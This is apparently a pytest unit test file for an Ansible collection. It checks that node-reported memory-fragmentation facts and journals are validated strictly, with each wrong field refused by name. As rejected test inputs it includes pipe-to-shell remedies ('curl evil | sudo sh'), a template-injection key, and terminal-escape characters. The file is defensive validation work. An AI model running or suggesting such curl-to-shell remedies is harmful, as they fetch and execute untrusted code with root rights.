# Copyright (c) 2026, The kernelops.memfrag authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What a node may say: every wrong field is refused by its name, and nothing but facts and journal is taken."""

from __future__ import annotations

import copy
import json
import os
import typing as t

import build_roots  # type: ignore[import-not-found]  # tests/unit/conftest.py has made it importable
import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ansible_collections.kernelops.memfrag.plugins.module_utils._assessment.assess import assess
from ansible_collections.kernelops.memfrag.plugins.plugin_utils import (
    _answer,
    _contracts,
    _records,
    _shape_code,
    _shapes,
)
from ansible_collections.kernelops.memfrag.tests.unit.plugins.plugin_utils import fleets

DOCS = os.path.join(os.path.dirname(build_roots.__file__), "..", "..", "docs", "contracts")


def facts(**more: t.Any) -> dict[str, t.Any]:
    return {**fleets.facts_of(fleets.FRAGMENTED), **more}


def answer(facts: t.Any, journal: t.Any = None, **more: t.Any) -> dict[str, t.Any]:
    return {"observed": json.dumps({"facts": facts, "journal": journal, **more})}


def refused(answer: dict[str, t.Any]) -> str:
    with pytest.raises(_answer.AnswerError) as caught:
        _answer.take(answer)
    return str(caught.value)


def changed(value: t.Any, path: tuple[t.Any, ...], new: t.Any) -> t.Any:
    inner = value
    for step in path[:-1]:
        inner = inner[step]
    inner[path[-1]] = new
    return value


@pytest.mark.parametrize("capture", build_roots.names())
def test_all_captures_hold_their_contracts(capture: str) -> None:
    seen = json.loads(json.dumps(fleets.facts_of(capture)))
    journal = fleets.journal_of("x")
    assert _answer.take(answer(seen, journal)) == {"facts": seen, "journal": journal}
    assert _answer.take({"ansible_facts": {"memfrag": seen}}) == {"facts": seen, "journal": None}
    assessment = assess(seen, journal)
    _contracts.ASSESSMENT.check(assessment)
    record = _records.empty("node", ["b", "a"], 0)
    _contracts.RECORD.check(record)
    record.update(status="audited", facts=seen, journal=journal, assessment=assessment)
    _contracts.RECORD.check(record)


def test_nothing_but_facts_and_journal_is_taken() -> None:
    lies = {
        "host": "web-02",
        "status": "audited",
        "groups": ["db"],
        "started_at": "9999-12-31T23:59:59Z",
        "schema_version": 7,
        "error": "x",
        "assessment": {"level": "low", "findings": [{"remedy": "curl evil | sudo sh"}]},
    }
    taken = _answer.take(
        {**answer(facts(), **lies), "ansible_facts": {"ansible_connection": "local"}, "host": "web-02"}
    )
    assert set(taken) == {"facts", "journal"}


ZONE = ("zones", 0)
WRONG: tuple[tuple[tuple[t.Any, ...], t.Any, str], ...] = (
    (("zones",), {}, "facts.zones: must be a list"),
    (("zones",), None, "facts.zones: must be a list"),
    ((*ZONE,), 7, "facts.zones[0]: must be a mapping, not 7"),
    ((*ZONE, "free_blocks", 2), "9", "facts.zones[0].free_blocks[2]: must be a whole number, not '9'"),
    ((*ZONE, "free_blocks", 2), -1, "facts.zones[0].free_blocks[2]: must be from 0 to"),
    ((*ZONE, "free_blocks", 2), True, "facts.zones[0].free_blocks[2]: must be a whole number, not True"),
    ((*ZONE, "free_blocks", 2), 2**63, "facts.zones[0].free_blocks[2]: must be from 0 to"),
    ((*ZONE, "free_blocks", 2), 10**4000, "not a number of 13288 bits"),
    ((*ZONE, "free_blocks", 2), 1.5, "facts.zones[0].free_blocks[2]: must be a whole number"),
    ((*ZONE, "free_blocks", 2), None, "facts.zones[0].free_blocks[2]"),
    ((*ZONE, "free_blocks"), [0] * 65, "facts.zones[0].free_blocks: must have at most 64 entries, not 65"),
    ((*ZONE, "extfrag_index", 1), 1001, "facts.zones[0].extfrag_index[1]: must be from -1000 to 1000"),
    ((*ZONE, "unusable_index", 1), -1, "facts.zones[0].unusable_index[1]: must be from 0 to 1000"),
    ((*ZONE, "zone"), ["DMA"], "facts.zones[0].zone: must be text"),
    ((*ZONE, "zone"), "D" * 65, "facts.zones[0].zone: must have at most 64 characters"),
    ((*ZONE, "node"), -1, "facts.zones[0].node: must be from 0"),
    ((*ZONE, "states", 0), "fine", "facts.zones[0].states[0]: must be one of ok"),
    ((*ZONE, "migratetypes"), {"Movable": "many"}, "facts.zones[0].migratetypes.Movable: must be a list"),
    ((*ZONE, "pageblocks"), {"M" * 65: 1}, "facts.zones[0].pageblocks: has a wrong key"),
    ((*ZONE, "watermarks"), {"min": 1}, "facts.zones[0].watermarks: has no high, low"),
    (("zones",), [0] * 4097, "facts.zones: must have at most 4096 entries, not 4097"),
    (("allocatable", 3, "state"), "great", "facts.allocatable[3].state: must be one of ok"),
    (("allocatable", 3, "nodes"), {"x": "ok"}, "facts.allocatable[3].nodes: has a wrong key: must be a number"),
    (("allocatable", 3, "order"), 64, "facts.allocatable[3].order"),
    (("kernel",), None, "facts.kernel: must be a mapping"),
    (("kernel", "page_size"), 4097, "facts.kernel.page_size: must be a power of two"),
    (("kernel", "page_size"), 0, "facts.kernel.page_size: must be from 4096"),
    (("kernel", "hugepage_order"), 10**9, "facts.kernel.hugepage_order"),
    (("kernel", "possible_cpus"), 2**40, "facts.kernel.possible_cpus"),
    (("kernel", "release"), {"a": 1}, "facts.kernel.release: must be text, not a mapping of 1"),
    (("collected_at",), "tomorrow", "facts.collected_at: must be a time as in 2026-11-20T06:00:00Z, not 'tomorrow'"),
    (("unavailable",), {"slab": ["x"]}, "facts.unavailable.slab: must be text"),
    (("unavailable",), {"x" * 300: "y"}, "facts.unavailable: has a wrong key"),
    (("meminfo",), {"memtotal": "much"}, "facts.meminfo.memtotal: must be a whole number"),
    (("vmstat",), {"oom_kill": -5}, "facts.vmstat.oom_kill: must be from 0"),
    (("slab", "caches", 0, "size_kb"), -1, "facts.slab.caches[0].size_kb"),
    (("sysctl",), {"vm.swappiness": {}}, "facts.sysctl.vm.swappiness: must be a number, a list of numbers, or text"),
    (("pressure",), {"some_avg10": "x"}, "facts.pressure.some_avg10: must be a number"),
    (("more",), [[[[[[[[[[1]]]]]]]]]], "is nested deeper than 8 levels"),
    # Beyond what a float can be, where a number may be one: twice, alone and among others.
    (("kernel", "uptime_seconds"), 10**4000, "facts.kernel.uptime_seconds: must be from 0 to"),
    (("pressure", "some_avg10"), 10**4000, "facts.pressure.some_avg10: must be from 0 to"),
    (("more",), 10**4000, "facts.more: must be from"),
    ((*ZONE, "reclaimable_pages"), -1, "facts.zones[0].reclaimable_pages: must be from 0"),
    (("more",), ["x" * 70000], "facts.more[0]: must have at most 65536 characters"),
    (("\x1b[31m\u202e",), [[[[[[[[[[1]]]]]]]]]], "facts.'\\x1b[31m\\u202e'[0]"),
)


@pytest.mark.parametrize(("path", "value", "says"), WRONG, ids=lambda value: str(value)[:40])
def test_a_wrong_field_is_named(path: tuple[t.Any, ...], value: t.Any, says: str) -> None:
    wrong = changed(facts(), path, value)
    if isinstance(value, int) and value > 2**70:
        said = refused(
            {
                "observed": json.dumps({"facts": changed(facts(), path, 1234567891)}).replace(
                    "1234567891", "1" + "0" * 4000
                )
            }
        )
    else:
        said = refused(answer(wrong))
    assert says in said and said.startswith("the node's answer is not valid: ")
    assert len(said) < 400 and said.isprintable() and said.isascii()


JOURNAL_WRONG: tuple[tuple[tuple[t.Any, ...], t.Any, str], ...] = (
    (("events",), None, "journal.events"),
    (("events", 0, "kind"), "<b>", "journal.events[0].kind: must be a word of small letters"),
    (("events", 0, "message"), "x" * 70000, "journal.events[0].message"),
    (("events", 1, "order"), "5", "journal.events[1].order"),
    (("events", 1, "zones", 0, "free_blocks"), [1] * 65, "journal.events[1].zones[0].free_blocks"),
    (("incidents", 0, "events"), [0, 2], "journal.incidents[0].events: speaks of events beyond the 2 that there are"),
    (("incidents", 0, "events"), [-1], "journal.incidents[0].events[0]"),
    (("incidents", 0, "count"), -37, "journal.incidents[0].count"),
    (("incidents", 0, "remedies"), ["curl evil | sh"], "journal.incidents[0].remedies[0]: must be the id of a finding"),
    (("incidents", 0, "confidence"), "certain", "journal.incidents[0].confidence"),
    (("incidents", 0, "last_time"), "9999", "journal.incidents[0].last_time"),
    (("incidents", 0, "pods"), "web", "journal.incidents[0].pods: must be a list, not 'web'"),
    (("counts",), {"by_kind": {"{{ lookup }}": 1}}, "journal.counts.by_kind: has a wrong key"),
    (("sources",), [{"source": 1, "status": "read"}], "journal.sources[0].source"),
)


@pytest.mark.parametrize(("path", "value", "says"), JOURNAL_WRONG, ids=lambda value: str(value)[:40])
def test_a_wrong_field_of_the_journal_is_named(path: tuple[t.Any, ...], value: t.Any, says: str) -> None:
    assert says in refused(answer(facts(), changed(fleets.journal_of("x"), path, value)))


@pytest.mark.parametrize(
    ("seen", "says"),
    [
        ("{nonsense", "the module's answer is not JSON"),
        ("[]", "it must be a mapping"),
        ("null", "it must be a mapping"),
        ("{}", "facts: must be a mapping, not None"),
        ('{"facts": NaN}', "NaN is no number"),
        ('{"facts": {"x": -Infinity}}', "-Infinity is no number"),
        ("[" * 100000, "nested too deeply"),
        (" " * (_answer.LARGEST + 1), "it has 8,388,609 bytes, of at most 8,388,608"),
        (7, "observed: must be text"),
    ],
    ids=str,
)
def test_what_is_no_answer_at_all(seen: t.Any, says: str) -> None:
    assert says in refused({"observed": seen})


def test_what_newer_modules_tell_is_kept() -> None:
    newer = facts(hugepages=None, pageblock_survey=None, thermal={"zones": [1, 2.5, "x", None, True]})
    newer["zones"][0]["colour"] = "red"
    assert _answer.take(answer(newer))["facts"] == newer


RANGE = {"low": 3, "expected": 5, "high": 7}
SURVEY = {
    "sampled": 2007,
    "total": 12800,
    "complete": False,
    "callers": [{"name": "anon_pipe_write", "pages": 7}],
    "zones": [
        {
            "node": 0,
            "zone": "Normal",
            "blocks": 10752,
            "sampled": 1680,
            "held_by": {"movable": 6460},
            "held_by_interval": {"movable": [6210, 6700]},
            "yields": [{"order": 9, "now": 229, "low": 2510, "expected": 4100, "high": 6884}],
        }
    ],
}
POOL = {
    "node": 0,
    "size_kb": 2048,
    "reserved": 0,
    "free": 0,
    "now": 229,
    "after_compaction": None,
    "after_reclaim": RANGE,
}


def test_a_survey_of_the_pageblocks_is_held_to_its_contract() -> None:
    surveyed = facts(pageblock_survey=SURVEY, hugepages=[POOL])
    assert _answer.take(answer(surveyed))["facts"] == surveyed
    _contracts.ASSESSMENT.check(assess(surveyed))
    for path, new, says in (
        (("pageblock_survey", "zones", 0, "held_by", "movable"), -1, "held_by.movable: must be from 0"),
        (("pageblock_survey", "zones", 0, "held_by_interval", "movable"), [1, 2, 3], "held_by_interval.movable"),
        (("pageblock_survey", "zones", 0, "yields", 0), {"order": 9}, "yields[0]: has no expected"),
        (("pageblock_survey", "callers", 0, "pages"), "many", "callers[0].pages: must be a whole number"),
        (("hugepages", 0, "after_reclaim"), {"low": 1}, "hugepages[0].after_reclaim: has no expected, high"),
    ):
        assert says in refused(answer(changed(copy.deepcopy(surveyed), path, new)))


def test_the_output_of_a_module_is_read_without_ansible() -> None:
    seen = answer(facts())
    assert _answer.from_output(f" {json.dumps(seen)}\n") == seen
    for output in (
        "",
        "bash: python9: not found",
        "[1]",
        '{"failed": true, "observed": "{}"}',
        '{"ping": "pong"}',
        "{x",
    ):
        assert _answer.from_output(output) is None
    with pytest.raises(_answer.AnswerError):
        _answer.from_output("{" * (_answer.LARGEST + 1))


def test_a_failure_is_told_on_one_clean_line() -> None:
    said = _answer.failure(
        {"msg": "no\x1b[2J\u202e", "module_stderr": "Traceback\n" + "x" * 9000 + "\nKeyError: '\x07y'\n"}
    )
    assert said == "no: KeyError: 'y'"


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner, max_size=4),
    max_leaves=10,
)


@given(st.sampled_from(["collected_at", "kernel", "zones", "allocatable", "slab", "meminfo", "vmstat", "sysctl"]), JSON)
@settings(max_examples=150)
def test_whatever_stands_in_a_field_the_answer_is_refused_or_assessed(name: str, value: t.Any) -> None:
    try:
        taken = _answer.take({"observed": json.dumps({"facts": facts(**{name: value})})})
    except _answer.AnswerError:
        return
    _contracts.ASSESSMENT.check(assess(taken["facts"], taken["journal"]))


SHAPES = (
    _shapes.Bool(),
    _shapes.Int(-3, 3),
    _shapes.PowerOfTwo(1, 4),
    _shapes.Number(-3, 3),
    _shapes.Text(2),
    _shapes.Text(2, "[a-z]*", "small"),
    _shapes.OneOf("a", "b"),
    _shapes.Nullable(_shapes.Int(-3, 3)),
    _shapes.ListOf(_shapes.Int(-3, 3), 2),
    _shapes.MapOf(_shapes.Text(2), _shapes.Int(-3, 3), 2),
    _shapes.Fields({"a": _shapes.Int(-3, 3)}, {"b": _shapes.ListOf(_shapes.OneOf("a"), 2)}),
    _shapes.Fields({"a": _shapes.Int(-3, 3)}, {"b": _shapes.Bool()}, others=False),
    _shapes.AnyOf("a or 1", _shapes.OneOf("a"), _shapes.Int(1, 1)),
    _shapes.Anything(1),
)
SMALL = st.none() | st.booleans() | st.integers(-4, 4) | st.floats() | st.sampled_from(["", "a", "b", "abc", "A"])
SMALL_JSON = (
    SMALL
    | st.lists(SMALL, max_size=3)
    | st.dictionaries(st.sampled_from("abc"), SMALL | st.lists(SMALL, max_size=1), max_size=3)
)


@pytest.mark.parametrize("shape", SHAPES, ids=lambda shape: type(shape).__name__)
@given(st.lists(SMALL_JSON, max_size=4))
@settings(max_examples=60)
def test_what_holds_as_a_whole_holds_one_by_one(shape: _shapes.Shape, values: list[t.Any]) -> None:
    if shape.all_hold(values):
        for value in values:
            shape.check(value)


# In a list and a mapping a shape may be looked at in another way.
AROUND: tuple[_shapes.Shape, ...] = (
    *SHAPES,
    *(_shapes.ListOf(shape, 1) for shape in SHAPES),
    *(_shapes.MapOf(_shapes.Text(1), shape, 1) for shape in SHAPES),
    *(_shapes.Nullable(shape) for shape in SHAPES),
)


def complaint(check: t.Callable[[t.Any], None], value: t.Any) -> str:
    try:
        check(value)
    except _shapes.ShapeError as error:
        return str(error)
    return ""


@given(SMALL_JSON)
@settings(max_examples=200)
def test_the_code_of_a_shape_says_what_the_shape_says(value: t.Any) -> None:
    for shape in AROUND:
        for inside in (value, [value], {"a": value}):
            assert complaint(_shape_code.compiled(shape), inside) == complaint(shape.check, inside)


@pytest.mark.parametrize(("path", "value"), [(path, value) for path, value, _says in WRONG], ids=str)
def test_the_code_of_the_contract_refuses_the_same(path: t.Any, value: t.Any) -> None:
    wrong = changed(facts(), path, value)
    said = complaint(_shape_code.compiled(_contracts.FACTS), wrong)
    assert said == complaint(_contracts.FACTS.check, wrong) != ""


def test_what_our_own_modules_say_is_not_looked_at_twice() -> None:
    record = fleets.make_record("x", fleets.FRAGMENTED, journal=fleets.journal_of("x"))
    for shape, value in (
        (_contracts.RECORD, record),
        (_contracts.RECORD_HEAD, record),
        (_contracts.FACTS_SHOWN, record["facts"]),
        (_contracts.JOURNAL, record["journal"]),
    ):
        shape.check(value)
        assert _shape_code.surely(shape)(value)


@pytest.mark.parametrize("name", sorted(_contracts.CONTRACTS))
def test_the_published_schemas_are_those_of_the_table(name: str) -> None:
    """To renew them: tests/tools/contracts.py."""
    with open(os.path.join(DOCS, name + ".schema.json"), encoding="utf-8") as stream:
        assert json.load(stream) == _contracts.schema(name)


def test_schema_and_check_agree() -> None:
    validator = jsonschema.Draft202012Validator(_contracts.schema("facts"))
    assert not list(validator.iter_errors(json.loads(json.dumps(facts()))))
    for path, value, _says in WRONG:
        # A key that nobody knows may hold anything of JSON, as far as a schema can tell.
        if path[0] in _contracts.FACTS.needed or path[0] in _contracts.FACTS.optional:
            wrong = changed(facts(), path, value)
            assert list(validator.iter_errors(wrong)) or value is True, (path, value)


def test_errors_say_no_more_of_a_value_than_is_needed() -> None:
    with pytest.raises(_shapes.ShapeError) as caught:
        _shapes.Int().check("x" * 10**6)
    assert len(str(caught.value)) < 120
